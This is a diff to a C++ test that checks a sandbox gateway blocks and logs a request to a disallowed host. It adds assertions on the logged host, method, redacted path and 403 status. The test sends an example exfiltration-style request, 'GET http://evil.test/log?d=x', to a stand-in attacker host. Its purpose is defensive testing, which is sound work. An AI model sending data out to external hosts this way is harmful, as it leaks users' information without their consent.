@@ -308,6 +308,11 @@ void TestGatewayProcess::deniedHostNeverReachesUpstream()
     QCOMPARE(responseStatus(plain.readResponse()), 403);
     const QJsonObject event = waitEvent(u"host_not_allowed"_s);
     QCOMPARE(event.value(u"layer"_s).toString(), u"http"_s);
+    QCOMPARE(event.value(u"host"_s).toString(), u"evil.test"_s);
+    QCOMPARE(event.value(u"name"_s).toString(), u"evil.test"_s);
+    QCOMPARE(event.value(u"method"_s).toString(), u"GET"_s);
+    QCOMPARE(event.value(u"path"_s).toString(), u"/log"_s); // "?d=x" redacted
+    QCOMPARE(event.value(u"status"_s).toInt(), 403);
     GuestConnection proxy;
     QVERIFY(proxy.connectTcp(QHostAddress(kLinkGateway), 3128));
     QVERIFY(proxy.write(get(u"http://evil.test/log?d=x"_s, u"evil.test"_s)));
